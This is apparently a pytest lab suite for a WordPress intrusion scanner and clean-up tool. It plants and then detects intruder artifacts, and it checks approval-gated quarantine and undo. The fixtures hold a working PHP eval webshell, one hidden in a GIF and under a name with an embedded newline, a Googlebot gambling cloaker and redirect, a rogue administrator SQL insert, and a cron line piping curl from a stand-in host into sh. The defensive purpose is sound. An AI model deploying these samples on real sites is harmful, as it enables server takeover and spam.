"""What intruders do to a real WordPress is found, each thing for itself; a clean one has none of it."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from struct import pack

import pytest

from playbooks.findings import TargetError, TargetResult
from playbooks.hosting import check, files
from playbooks.hosting.connect import Shell, open_host
from playbooks.hosting.intruders import cleaning, inspecting
from playbooks.hosting.site import Site
from playbooks.plans import ChangedSincePlan
from tests.flows.conftest import Said
from tests.flows.steps import act, settle, submit
from tests.lab.core import run
from tests.lab.web import WebLab
from tests.playbooks.hosting.steps import allowed, deployed, fresh, hosted, install_wordpress, killed, wordpress

pytestmark = pytest.mark.lab

OURS = ("files.", "cms.", "exposed.", "content.", "php.", "os.")
UPLOADS = "shared/wp-content/uploads"
SHELL = "<?php if (isset($_POST['c'])) { @eval($_POST['c']); }"
CLOAKER = (
    "<?php if (preg_match('/google|bing/i', $_SERVER['HTTP_USER_AGENT'] ?? '')) {"
    " die('<title>Slot Gacor Maxwin</title><h1>Daftar slot gacor maxwin deposit pulsa, bandar togel</h1>'); } ?>\n"
)
PAGE = "<title>Slot Gacor Hari Ini</title><h1>Daftar situs slot gacor maxwin, deposit pulsa, bandar togel online</h1>"
HTACCESS = "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule .* http://judi.invalid/ [R]\n"
CRON = "* * * * * www-data curl -s http://judi.invalid/x | sh\n"
CRONTAB = "MAILTO=tik@lab.test\n0 3 * * * date\n*/5 * * * * php /tmp/.sesi/a.php 50%\n"
"""Of the web user, whose second job is an intruder's."""
ADMIN = """
insert into bersih_web.wp_users (ID, user_login, user_registered) values (77, 'sistem_wp', '2026-01-02');
insert into bersih_web.wp_usermeta (user_id, meta_key, meta_value)
values (77, 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}')
"""
PLANTED = {
    f"{UPLOADS}/2026/01/gambar.php": SHELL,
    f"{UPLOADS}/foto \n baru.jpg": f"GIF89a{SHELL}",
    f"{UPLOADS}/berita/index.html": PAGE,
    f"{UPLOADS}/.htaccess": HTACCESS,
    f"{UPLOADS}/.user.ini": "auto_prepend_file = gambar.jpg\n",
    "current/wp-login.php": "<?php // lain",
    "current/wp-includes/wp-lama.php": "<?php phpinfo();",
    "current/.env": "APP_KEY=rahasia\nDB_PASSWORD=rahasia\n",
    "current/.git/HEAD": "ref: refs/heads/main\n",
}


@dataclass
class Ground:
    """A WordPress of the lab, and what its check found."""

    site: Site
    shell: Shell
    lab: WebLab

    @property
    def base(self) -> Path:
        return Path(self.site.layout.base)

    def real(self, name: str) -> str:
        """A path below the site's folder as a finding names it."""
        return str((self.base / name).resolve().relative_to(self.base))

    def look(self) -> TargetResult:
        result = check.check(self.site, self.shell)
        assert result.detail == "", result.detail
        return result


@pytest.fixture(scope="module")
def ground(web_lab: WebLab) -> Iterator[Ground]:
    site = wordpress(web_lab, "bersih", admins=["admin"])
    with open_host(site.access) as shell:
        hosted(site, shell)
        assert deployed(site, shell).ok
        install_wordpress(site, web_lab, "Dinas Bersih")
        yield Ground(site, shell, web_lab)


@pytest.fixture(scope="module")
def clean(ground: Ground) -> TargetResult:
    return ground.look()


@pytest.fixture(scope="module")
def intruded(ground: Ground, clean: TargetResult) -> Iterator[TargetResult]:
    """The same site after everything at once, and its web server no longer refusing what begins with a dot."""
    assert clean
    for name, text in PLANTED.items():
        _plant(ground.base / name, text)
    _plant(ground.base / "current/index.php", CLOAKER + (ground.base / "current/index.php").read_text())
    config = (ground.base / "shared/wp-config.php").read_text()
    _plant(ground.base / "shared/wp-config.php", config.replace("'WP_DEBUG', false", "'WP_DEBUG', true"))
    (ground.base / "current/wp-cron.php").unlink()
    (ground.base / UPLOADS / "logo.png").symlink_to("/etc/passwd")
    timetable = Path("/etc/cron.d/php-sesi")
    _plant(timetable, CRON)
    _crontab("-", text=CRONTAB)
    ground.lab.sql(ADMIN)
    web = Path(files.web_path(ground.site))
    web.write_text(web.read_text().replace("location ~ /\\. { return 404; }", ""))
    ground.shell.privileged(ground.site.host.commands.nginx_reload)
    yield ground.look()
    timetable.unlink()
    _crontab("-r")


def _crontab(what: str, text: str = "") -> str:
    return run("crontab", "-u", "www-data", what, stdin=text).stdout


def _plant(path: Path, text: str) -> None:
    for folder in reversed([each for each in path.parents if not each.exists()]):
        folder.mkdir()
        # As WordPress makes its folders: with the owner and the rights of the one above.
        shutil.copymode(folder.parent, folder)
        shutil.chown(folder, folder.parent.owner(), folder.parent.group())
    path.write_text(text)
    path.chmod(0o644)


def found(result: TargetResult) -> set[tuple[str, str]]:
    return {(each.code, each.subject) for each in result.findings if each.code.startswith(OURS)}


def test_a_clean_wordpress_has_none_of_these_findings(clean: TargetResult) -> None:
    assert {"files", "cms", "php", "os", "exposed", "content"} <= {*clean.checked}
    assert found(clean) == set()
    assert clean.copies == ()


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("files.webshell", f"{UPLOADS}/2026/01/gambar.php"),
        ("files.unknown", f"{UPLOADS}/2026/01/gambar.php"),
        ("files.unknown", f"{UPLOADS}/logo.png"),
        ("files.webshell", f"{UPLOADS}/.htaccess"),
        ("files.webshell", f"{UPLOADS}/.user.ini"),
        ("content.gambling", f"{UPLOADS}/berita/index.html"),
        ("files.changed", "current/wp-login.php"),
        ("files.changed", "current/wp-cron.php"),
        ("files.changed", "current/index.php"),
        ("files.webshell", "current/index.php"),
        ("files.unknown", "current/wp-includes/wp-lama.php"),
        ("exposed.debug", "current/wp-includes/wp-lama.php"),
        ("files.changed", "shared/wp-config.php"),
        ("exposed.debug", "shared/wp-config.php"),
        ("exposed.file", "current/.env"),
        ("exposed.file", "current/.git/HEAD"),
    ],
)
def test_what_an_intruder_left_in_the_files_is_found(
    ground: Ground, intruded: TargetResult, code: str, name: str
) -> None:
    here = ground.base / name
    subject = str(here.relative_to(ground.base)) if here.is_symlink() else ground.real(name)
    assert (code, subject) in found(intruded)


def test_a_back_door_in_a_picture_with_a_hostile_name_is_found_and_printable(intruded: TargetResult) -> None:
    assert ("files.webshell", f"{UPLOADS}/foto baru.jpg") in found(intruded)


def test_a_cloaker_is_found_on_the_page_as_searchers_get_it(intruded: TargetResult) -> None:
    assert {code for code, _ in found(intruded)} & {"content.cloaked"}


def test_the_page_is_kept_as_it_looks_to_people_and_to_search_engines(intruded: TargetResult) -> None:
    pictures = {copy.path: copy.data for copy in intruded.copies if copy.path.startswith("tangkapan layar")}
    person, crawler = (f"tangkapan layar halaman depan, {who}.png" for who in ("orang biasa", "perayap mesin pencari"))
    assert pictures.keys() == {person, crawler}, intruded.detail
    assert {(data[:8], data[16:24]) for data in pictures.values()} == {(b"\x89PNG\r\n\x1a\n", pack(">II", 1280, 1600))}
    assert pictures[person] != pictures[crawler]


def test_an_unknown_admin_is_found_and_the_known_one_is_not(intruded: TargetResult) -> None:
    (admin,) = [each for each in intruded.findings if each.code == "cms.unknown_admin"]
    assert "sistem_wp" in admin.evidence


def test_bad_lines_of_timetables_are_found_and_kept(intruded: TargetResult) -> None:
    places = {f"jadwal (cron) {place}" for place in ("www-data", "/etc/cron.d/php-sesi")}
    assert {("files.webshell", place) for place in places} <= found(intruded)
    assert {each.path: each.data for each in intruded.copies if "cron" in each.path} == {
        "jadwal (cron) www-data": CRONTAB.encode(),
        "jadwal (cron) /etc/cron.d/php-sesi": CRON.encode(),
    }


def test_a_crontab_that_the_host_does_not_show_is_said_and_files_do_not_pass_for_clean(ground: Ground) -> None:
    sudoers = Path("/etc/sudoers.d/pelihara")
    rules = sudoers.read_text()
    sudoers.write_text(rules.replace("-u www-data -l", "-u www-data -V"))
    try:
        with pytest.raises(TargetError, match="milik www-data tidak terbaca"):
            list(inspecting.look_through(ground.site, ground.shell, inspecting.Seen()))
    finally:
        sudoers.write_text(rules)


def test_open_doors_are_found_by_asking_and_their_secrets_are_not_quoted(
    ground: Ground, intruded: TargetResult
) -> None:
    url = f"http://{ground.site.domain}"
    assert {("exposed.file", f"{url}/.env"), ("exposed.file", f"{url}/.git/HEAD")} <= found(intruded)
    assert "rahasia" not in f"{intruded.as_json()}"


def test_files_are_copied_as_they_were_with_owner_and_times(ground: Ground, intruded: TargetResult) -> None:
    (copy,) = [each for each in intruded.copies if each.path.endswith("gambar.php")]
    there = (ground.base / UPLOADS / "2026/01/gambar.php").stat()
    assert copy.data == SHELL.encode()
    assert (copy.owner, copy.modified) == ("root", int(there.st_mtime))


def test_what_came_after_the_approval_stops_a_clean_up_before_it_begins(ground: Ground, intruded: TargetResult) -> None:
    planned, later = cleaning.plan(ground.site, ground.shell), ground.base / UPLOADS / "baru.php"
    assert intruded.findings
    _plant(later, SHELL)
    with pytest.raises(ChangedSincePlan):
        cleaning.apply(planned, ground.site, ground.shell, allowed)
    later.unlink()
    assert not (ground.base / "quarantine").exists()


def test_a_site_that_stops_answering_has_everything_back(
    ground: Ground, intruded: TargetResult, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert intruded.findings
    answers = iter(["", "status 500"])
    monkeypatch.setattr(cleaning.health, "problem", lambda _: next(answers))
    planned = cleaning.plan(ground.site, ground.shell)
    done = cleaning.apply(planned, ground.site, ground.shell, allowed)
    assert (done.status, done.detail) == ("rolled_back", "status 500")
    assert (ground.base / "current/wp-login.php").read_text() == PLANTED["current/wp-login.php"]
    assert cleaning.plan(ground.site, ground.shell).details["admins"] == {"sistem_wp": 77}


def test_a_clean_up_moves_everything_out_restores_the_release_and_can_be_undone(
    ground: Ground, intruded: TargetResult
) -> None:
    site, shell = ground.site, ground.shell
    assert intruded.findings
    planned = cleaning.plan(site, shell)
    assert planned.ladder == "B"
    assert {
        f"karantina {UPLOADS}/2026/01/gambar.php: berkas tidak dikenal, pintu belakang (webshell)",
        "cabut hak admin 'sistem_wp'",
        "matikan jadwal (cron) www-data: */5 * * * * php /tmp/.sesi/a.php 50%",
    } <= {*planned.changes}
    midway = killed(lambda tick, step: cleaning.apply(planned, site, fresh(site), tick, step), at=4)
    assert midway == -9
    # A file of the release is there all the time, as the intruder left it or as it should be.
    assert (ground.base / "current/wp-login.php").read_text() == PLANTED["current/wp-login.php"]
    assert not (ground.base / UPLOADS / "2026/01/gambar.php").exists()
    done = cleaning.apply(planned, site, shell, allowed)
    assert (done.status, done.detail) == ("applied", "")
    assert not {each["code"] for each in done.after} - {"files.unknown", "files.webshell"}, done.after
    assert cleaning.plan(site, shell).changes == ()
    silenced = CRONTAB.replace("*/5", f"# pelihara {planned.details['quarantine']}: */5")
    assert _crontab("-l") == silenced
    aside = ground.base / "quarantine" / planned.details["quarantine"]
    assert (aside / "files" / UPLOADS / "2026/01/gambar.php").read_text() == SHELL
    assert (aside.stat().st_mode & 0o777, (aside / "manifest.json").stat().st_mode & 0o777) == (0o700, 0o600)
    assert "lain" not in (ground.base / "current/wp-login.php").read_text()
    login = str((ground.base / "current/wp-login.php").resolve().relative_to(ground.base))
    assert (aside / "files" / login).read_text() == PLANTED["current/wp-login.php"]
    assert (ground.base / "current/wp-cron.php").exists()
    undone = cleaning.apply(cleaning.plan_undo(site, shell), site, shell, allowed)
    assert undone.status == "applied"
    assert _crontab("-l") == CRONTAB
    assert (ground.base / UPLOADS / "2026/01/gambar.php").read_text() == SHELL
    assert cleaning.plan(site, shell).details["admins"] == {"sistem_wp": 77}


def test_the_command_plans_shows_cleans_and_undoes_only_what_was_approved(
    ground: Ground, intruded: TargetResult, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert intruded.findings
    pelihara = settle(tmp_path, ground.lab.folder, ground.lab.known_hosts, monkeypatch)
    case = submit(pelihara, tmp_path, "--sop", "website", "--opd", "dinkes", "--website", ground.site.slug)
    act(pelihara, case, "pranata-1", "kadis", "sekretaris", "kabid-aptika")

    def clean(*words: str) -> Said:
        return pelihara("website", "clean", ground.site.slug, "--case", case, "--as", "pranata-1", *words)

    def approve(*words: str) -> None:
        said = pelihara("case", "act", case, "--as", "sub-koor-spa", "--answer", "YA", *words)
        assert said.code == 0, said.err

    (plan,) = clean("--json").json["plans"]
    assert plan["summary"].endswith("1 baris jadwal (cron) hanya dapat dimatikan root: caranya pada temuannya")
    refused = clean("--apply", plan["hash"], "--json")
    assert (refused.code, refused.json["error"]["code"]) == (1, "permit_refused")
    assert (ground.base / UPLOADS / "2026/01/gambar.php").exists()
    approve("--note", "Diperiksa dengan website check")
    done = clean("--apply", plan["hash"][:8])
    assert (done.code, "dijalankan dan terbukti" in done.out) == (0, True), done.out
    assert "hilang: files.webshell jadwal (cron) www-data" in done.out
    assert not (ground.base / UPLOADS / "2026/01/gambar.php").exists()
    (undoing,) = clean("--undo", "--json").json["plans"]
    assert undoing["hash"] != plan["hash"]
    assert clean("--apply", undoing["hash"]).code == 1
    assert "# pelihara" in _crontab("-l")
    approve()
    assert "1 baris jadwal, hak 1 admin" in clean("--apply", undoing["hash"][:8]).out
    assert (ground.base / UPLOADS / "2026/01/gambar.php").read_text() == SHELL
    assert _crontab("-l") == CRONTAB
    assert pelihara("audit", "verify").code == 0
